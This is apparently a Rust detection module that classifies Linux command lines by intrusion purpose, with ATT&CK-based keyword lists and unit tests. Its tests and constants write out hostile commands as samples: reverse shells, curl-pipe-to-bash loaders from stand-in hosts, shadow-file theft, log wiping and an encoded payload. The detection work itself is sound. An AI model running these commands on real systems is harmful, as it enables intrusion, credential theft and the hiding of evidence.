//! What a command line says about what it is for.
//!
//! Source: the command lines that public reports on Linux intrusions and ATT&CK's procedure
//! examples show (T1059.004, T1105, T1140, T1003.007, T1070, T1490, T1496.001, T1046, T1552.005);
//! the options are those of the tools' own manuals.
//!
//! A command is an account's own words and may be anything: a class is a reason to look, and the
//! sign that uses it says how good a reason.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::base64;

mod texts;

use texts::TEXTS;

/// The most of a command line that is looked at.
const LOOKED_AT: usize = 16 << 10;
/// How often an encoded part is decoded again.
const DEPTH: u32 = 3;

/// What a command is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Purpose {
    /// Something is fetched and given to an interpreter at once.
    FetchAndRun,
    /// Something encoded is decoded and given to an interpreter.
    Encoded,
    /// A shell is tied to a connection.
    ReverseShell,
    /// Passwords or keys are taken out of memory or copied from where they are kept.
    CredentialDump,
    /// A log or a history is emptied, removed or switched off.
    LogWipe,
    /// Backups or snapshots are destroyed.
    BackupDestroyed,
    /// Much is packed together in a place for temporary things.
    Staging,
    /// Cryptocurrency is mined.
    Mining,
    /// Other computers are scanned or their passwords tried.
    Scanning,
    /// The cloud's metadata service is asked.
    Metadata,
    /// A service that hides who talks is used: Tor, a paste site, a bot's interface.
    HiddenService,
    /// Auditing, logging or the firewall is switched off.
    DefenceOff,
}

impl Purpose {
    /// Returns the name used in tables.
    pub fn name(self) -> &'static str {
        match self {
            Self::FetchAndRun => "fetch-and-run",
            Self::Encoded => "encoded",
            Self::ReverseShell => "reverse-shell",
            Self::CredentialDump => "credential-dump",
            Self::LogWipe => "log-wipe",
            Self::BackupDestroyed => "backup-destroyed",
            Self::Staging => "staging",
            Self::Mining => "mining",
            Self::Scanning => "scanning",
            Self::Metadata => "metadata",
            Self::HiddenService => "hidden-service",
            Self::DefenceOff => "defence-off",
        }
    }
}

/// One thing that a command line says.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Told {
    /// What it is for.
    pub purpose: Purpose,
    /// By what that is seen: a part of the text, or a word (`plain-http`, `address`, `vendor`).
    pub by: &'static str,
    /// The text that was encoded, if it was.
    pub decoded: Option<String>,
}

/// Programs that fetch.
const FETCHERS: [&str; 5] = ["curl", "wget", "fetch", "lwp-download", "aria2c"];
/// What decodes.
pub(crate) const DECODERS: [&str; 9] = [
    "base64 -d",
    "base64 --decode",
    "base64 -di",
    "openssl base64 -d",
    "openssl enc -d",
    "xxd -r",
    "base32 -d",
    "b64decode",
    "decode_base64",
];
/// Logs that intruders wipe.
const LOGS: [&str; 9] = [
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/syslog",
    "/var/log/messages",
    "/var/log/audit",
    "/var/log/journal",
];
/// How a history is switched off or removed.
const HISTORY: [&str; 7] = [
    "unset histfile",
    "histfile=/dev/null",
    "histsize=0",
    "histfilesize=0",
    "ln -sf /dev/null ~/.bash_history",
    "rm -f ~/.bash_history",
    "rm ~/.bash_history",
];
/// What packs much together.
const PACKERS: [&str; 6] = ["tar c", "tar -c", "tar zc", "tar -zc", "zip -r", "7z a"];
/// What dumps databases.
const DUMPERS: [&str; 2] = ["mysqldump", "pg_dumpall"];

/// Of each thing that is told, a text without which it is not: one look at a command sees whether
/// any is there. None if there is no room for them, and then each command is looked at closely.
static WITHOUT_WHICH_NOTHING: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let rows = TEXTS.iter().flat_map(|(_, rows)| rows.iter()).filter_map(|row| row.first());
    let lists: [&[&str]; 6] = [&FETCHERS, &DECODERS, &LOGS, &HISTORY, &PACKERS, &DUMPERS];
    let all = rows.chain(lists.into_iter().flatten());
    AhoCorasick::builder().ascii_case_insensitive(true).build(all).ok()
});

/// Returns what a command line is for; empty for nearly all.
pub fn told(command: &str) -> Vec<Told> {
    let mut told = Vec::new();
    let command = cut(command);
    if WITHOUT_WHICH_NOTHING.as_ref().is_some_and(|texts| !texts.is_match(command)) {
        return told;
    }
    look(command, 0, &mut told);
    told.sort_by_key(|told| told.purpose);
    told.dedup_by_key(|told| told.purpose);
    told
}

fn cut(text: &str) -> &str {
    let mut end = text.len().min(LOOKED_AT);
    while !text.is_char_boundary(end) {
        end = end.saturating_sub(1);
    }
    text.get(..end).unwrap_or_default()
}

fn look(command: &str, depth: u32, told: &mut Vec<Told>) {
    let text = command.to_ascii_lowercase();
    let text = text.as_str();
    let mut tell = |purpose, by| told.push(Told { purpose, by, decoded: None });
    if let Some(by) = fetch_and_run(text) {
        tell(Purpose::FetchAndRun, by);
    }
    for (purpose, rows) in TEXTS {
        let by = rows.iter().find(|row| row.iter().all(|part| has(text, part)));
        if let Some([by, ..]) = by {
            tell(*purpose, by);
        }
    }
    if let Some(by) = wiped(text) {
        tell(Purpose::LogWipe, by);
    }
    if let Some(by) = staged(text) {
        tell(Purpose::Staging, by);
    }
    if runs_decoded(text) {
        let payload = payload(command);
        if let Some(payload) = payload.as_deref().filter(|_| depth < DEPTH) {
            look(payload, depth.saturating_add(1), told);
        }
        told.push(Told {
            purpose: Purpose::Encoded,
            by: "decoder and interpreter",
            decoded: payload,
        });
    }
}

/// Returns whether a text has a part; where the part begins or ends with a letter or digit, the
/// text must not go on there with one.
fn has(text: &str, part: &str) -> bool {
    let bytes = text.as_bytes();
    let is_word = |at: Option<usize>| {
        at.and_then(|at| bytes.get(at)).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    };
    let (first, last) = (part.as_bytes().first(), part.as_bytes().last());
    let starts = first.is_some_and(u8::is_ascii_alphanumeric);
    let ends = last.is_some_and(u8::is_ascii_alphanumeric);
    memchr::memmem::find_iter(bytes, part.as_bytes()).any(|at| {
        let before = starts && is_word(at.checked_sub(1));
        let after = ends && is_word(at.checked_add(part.len()));
        !before && !after
    })
}

/// Programs that run text, by name.
pub(crate) const INTERPRETERS: [&str; 11] =
    ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python3", "perl", "php", "ruby"];

/// Returns whether, after a pipe, an interpreter reads what comes.
fn piped_to_interpreter(text: &str) -> bool {
    text.split('|').skip(1).any(|part| {
        // A pipe ends with its line.
        let mut words =
            part.trim_start().lines().next().unwrap_or_default().split_ascii_whitespace();
        let mut word = words.next().unwrap_or_default();
        while matches!(word, "sudo" | "-e" | "env" | "nohup" | "exec" | "setsid" | "-n") {
            word = words.next().unwrap_or_default();
        }
        let word = word.trim_end_matches([';', '&', ')', ']', '"', '\'', '`']);
        let name = word.rsplit('/').next().unwrap_or_default();
        // `python3 -c …` and `sh script` read their own text, not the pipe's; `sh -s`, `bash -` do.
        let next = words.next().unwrap_or_default();
        INTERPRETERS.contains(&name)
            && (next.is_empty() || next.starts_with(['-', '|', ';', '&', '>', '2', '"', '\'']))
            && !matches!(next, "-c" | "-n")
    })
}

/// Returns how something is fetched and run at once, if it is.
fn fetch_and_run(text: &str) -> Option<&'static str> {
    if !FETCHERS.iter().any(|fetcher| has(text, fetcher)) {
        return None;
    }
    let substituted = ["<(curl", "<(wget", "$(curl", "$(wget", "`curl", "`wget"];
    let at_once = ["sh -c", "bash -c", "eval ", "source <(", ". <(", "bash <(", "sh <(", "python"];
    let by_substitution = substituted.iter().any(|part| text.contains(part))
        && at_once.iter().any(|part| text.contains(part));
    let written = [";", "&&"].iter().any(|mark| text.contains(mark))
        && (text.contains("chmod +x") || text.contains("chmod 7") || has(text, "chmod u+x"));
    if !piped_to_interpreter(text) && !by_substitution && !written {
        return None;
    }
    Some(origin(text))
}

/// Tells what sort of place something is fetched from.
fn origin(text: &str) -> &'static str {
    /// Installers that their own documentation tells people to pipe into a shell.
    const VENDORS: [&str; 16] = [
        "https://sh.rustup.rs",
        "https://get.docker.com",
        "https://raw.githubusercontent.com/homebrew/",
        "https://raw.githubusercontent.com/ohmyzsh/",
        "https://raw.githubusercontent.com/nvm-sh/",
        "https://deb.nodesource.com/",
        "https://rpm.nodesource.com/",
        "https://get.k3s.io",
        "https://get.helm.sh",
        "https://astral.sh/",
        "https://install.python-poetry.org",
        "https://tailscale.com/install.sh",
        "https://packages.",
        "https://download.docker.com/",
        "https://get.sdkman.io",
        "https://bun.sh/install",
    ];
    if VENDORS.iter().any(|vendor| text.contains(vendor)) {
        return "vendor";
    }
    let host = text.split("://").nth(1).unwrap_or_default();
    let host = host.split(['/', ' ', ':', '"', '\'', ')']).next().unwrap_or_default();
    let is_address = !host.is_empty() && host.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    match () {
        () if is_address => "address",
        () if text.contains("https://") => "https",
        () => "plain-http",
    }
}

/// Returns whether a command decodes something, in lower-case letters.
pub(crate) fn decodes(text: &str) -> bool {
    DECODERS.iter().any(|decoder| text.contains(decoder))
}

/// Returns whether a decoder's output is run, in lower-case letters.
pub(crate) fn runs_decoded(text: &str) -> bool {
    if !decodes(text) {
        return false;
    }
    let evaluated = ["eval ", "eval(", "exec(", "sh -c", "bash -c", "<(", "source ", "system("];
    piped_to_interpreter(text) || evaluated.iter().any(|part| text.contains(part))
}

/// Returns the longest part that base64 decodes to text.
fn payload(command: &str) -> Option<String> {
    let is_alphabet = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    let longest = command.split(|c| !is_alphabet(c)).max_by_key(|part| part.len())?;
    let bytes = base64::decode(longest.as_bytes())?;
    let text = String::from_utf8(bytes).ok()?;
    let readable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
    (longest.len() >= 16 && readable == text.chars().count()).then_some(text)
}

/// Returns what is wiped, if a log or a history is.
fn wiped(text: &str) -> Option<&'static str> {
    if let Some(by) = HISTORY.iter().find(|part| text.contains(*part)) {
        return Some(by);
    }
    let log = LOGS.iter().find(|log| text.contains(*log))?;
    let at = text.find(log)?;
    let before = text.get(..at)?.trim_end();
    let after = text.get(at.saturating_add(log.len())..)?;
    // Written to the file itself, not to something below or beside it (`auth.log.1.gz`).
    let itself =
        after.is_empty() || after.starts_with([' ', ';', '&', '"', '\'', '|', ')', '*', '/']);
    let emptied = before.ends_with('>') && !before.ends_with(">>");
    let acts = ["rm ", "shred ", "truncate ", "unlink ", "sed -i", "utmpdump -r"];
    let removed = acts.iter().any(|act| {
        before
            .rsplit([';', '&', '|'])
            .next()
            .is_some_and(|part| has(part.trim_start(), act.trim_end()))
    });
    (itself && (emptied || removed)).then_some(*log)
}

/// Returns what is packed up, if much is packed into a temporary place.
fn staged(text: &str) -> Option<&'static str> {
    const SOURCES: [&str; 6] = ["/etc", "/home", "/root", "/var/www", "/srv", "/var/lib/mysql"];
    const PLACES: [&str; 4] = ["/tmp/", "/dev/shm/", "/var/tmp/", "/var/www/html/"];
    let dumped = DUMPERS.iter().any(|dumper| has(text, dumper)) && text.contains('>');
    // Options go on with letters (`tar czf`), so that only the beginning is a word's.
    let packed = PACKERS.iter().any(|packer| {
        text.match_indices(packer).any(|(at, _)| {
            let before = at.checked_sub(1).and_then(|at| text.as_bytes().get(at));
            before.is_none_or(|b| !b.is_ascii_alphanumeric())
        })
    });
    let source = SOURCES.iter().find(|source| text.contains(**source));
    let place = PLACES.iter().any(|place| text.contains(place));
    match source {
        Some(source) if packed && place => Some(source),
        _ if dumped && place => Some("database dump"),
        _ => None,
    }
}

/// Returns the word of a recon command: what one asks first on a machine that one does not know.
pub fn recon(command: &str) -> Option<&'static str> {
    const WORDS: [&str; 22] = [
        "id",
        "whoami",
        "uname",
        "w",
        "who",
        "last",
        "hostname",
        "ifconfig",
        "netstat",
        "ss",
        "ps",
        "lscpu",
        "nproc",
        "lsblk",
        "df",
        "getent",
        "groups",
        "arp",
        "route",
        "crontab",
        "dmidecode",
        "lsmod",
    ];
    let mut words = command.split_ascii_whitespace();
    let mut word = words.next()?;
    if word == "sudo" {
        word = words.next()?;
    }
    let name = word.rsplit('/').next()?;
    let second = words.next().unwrap_or_default();
    match name {
        "cat" if second == "/etc/passwd" => Some("cat /etc/passwd"),
        "cat" if second.starts_with("/proc/cpuinfo") => Some("cat /proc/cpuinfo"),
        "cat" if second.starts_with("/etc/") && second.ends_with("release") => {
            Some("cat /etc/os-release")
        }
        "ip" if matches!(second, "a" | "addr" | "r" | "route" | "neigh" | "n") => Some("ip"),
        "sudo" if second == "-l" => Some("sudo -l"),
        "find" if command.contains("-perm") => Some("find -perm"),
        "crontab" if second != "-l" => None,
        _ => WORDS.iter().find(|word| **word == name).copied(),
    }
}

/// Returns the victim of a killing command, if it is one.
pub fn killed(command: &str) -> Option<&str> {
    let mut words = command.split_ascii_whitespace();
    let name = words.next()?.rsplit('/').next()?;
    if !matches!(name, "kill" | "pkill" | "killall") {
        return None;
    }
    words.find(|word| !word.starts_with('-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn purposes(command: &str) -> Vec<&'static str> {
        told(command).iter().map(|told| told.purpose.name()).collect()
    }

    #[test]
    fn what_intruders_type() {
        for (command, expected) in [
            ("curl -fsSL http://198.51.100.7/x.sh | bash", "fetch-and-run"),
            ("wget -q -O - http://a.example/i.sh|sh", "fetch-and-run"),
            ("bash -c \"$(curl -s https://a.example/x)\"", "fetch-and-run"),
            ("cd /tmp; wget http://a.example/m; chmod +x m; ./m", "fetch-and-run"),
            ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "reverse-shell"),
            (
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 9 >/tmp/f",
                "reverse-shell",
            ),
            ("gcore -o /tmp/d $(pgrep sshd)", "credential-dump"),
            ("cp /etc/shadow /tmp/.s", "credential-dump"),
            (": > /var/log/wtmp", "log-wipe"),
            ("sed -i /203.0.113.5/d /var/log/auth.log", "log-wipe"),
            ("rm -rf /var/log/audit/*", "log-wipe"),
            ("unset HISTFILE", "log-wipe"),
            ("tar czf /tmp/.a.tgz /etc /home", "staging"),
            ("./x -o stratum+tcp://pool.example:3333 -u w", "mining"),
            ("masscan 0.0.0.0/0 -p22", "scanning"),
            ("curl http://169.254.169.254/latest/meta-data/iam/", "metadata"),
            ("curl https://api.telegram.org/bot123:abc/sendMessage", "hidden-service"),
            ("auditctl -e 0", "defence-off"),
            ("zfs destroy -r tank/data@daily", "backup-destroyed"),
        ] {
            assert!(purposes(command).contains(&expected), "{command}: {:?}", told(command));
        }
    }

    #[test]
    fn what_administrators_type() {
        for command in [
            "curl -o install.sh https://example.org/install.sh",
            "curl -s https://api.example.org/v1/items | jq .",
            "curl https://example.org/data.json | python3 -c 'import json,sys'",
            "tail -f /var/log/auth.log | grep sshd",
            "grep Failed /var/log/auth.log > /tmp/failed.txt",
            "zcat /var/log/auth.log.1.gz",
            "logger hello >> /var/log/messages-of-mine",
            "base64 -d cert.b64 > cert.pem",
            "tar czf /backup/etc.tgz /etc",
            "systemctl restart rsyslog",
            "iptables -L -n",
            "sshd -t",
            "git fetch origin; make; ./build.sh",
            "kubectl exec -it web -- bash",
            "ping -c1 198.51.100.1",
        ] {
            assert_eq!(purposes(command), Vec::<&str>::new(), "{command}");
        }
    }

    #[test]
    fn an_encoded_command_is_decoded_and_looked_at_again() {
        // bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
        let command =
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE= | base64 -d | bash";
        let told = told(command);
        let encoded = told.iter().find(|told| told.purpose == Purpose::Encoded).unwrap();
        assert!(encoded.decoded.as_deref().unwrap().starts_with("bash -i"), "{told:?}");
        assert!(told.iter().any(|told| told.purpose == Purpose::ReverseShell), "{told:?}");
    }

    #[test]
    fn a_vendors_installer_is_told_apart() {
        let by = |command: &str| told(command).first().map(|told| told.by);
        assert_eq!(by("curl https://sh.rustup.rs -sSf | sh"), Some("vendor"));
        assert_eq!(by("curl http://198.51.100.7:8080/a | sh"), Some("address"));
        assert_eq!(by("curl http://a.example/a | sh"), Some("plain-http"));
        assert_eq!(by("curl https://a.example/a | sh"), Some("https"));
    }

    #[test]
    fn recon_and_killing() {
        assert_eq!(recon("/usr/bin/id"), Some("id"));
        assert_eq!(recon("sudo cat /etc/passwd"), Some("cat /etc/passwd"));
        assert_eq!(recon("vim id"), None);
        assert_eq!(killed("pkill -9 kinsing"), Some("kinsing"));
        assert_eq!(killed("skill x"), None);
    }
}
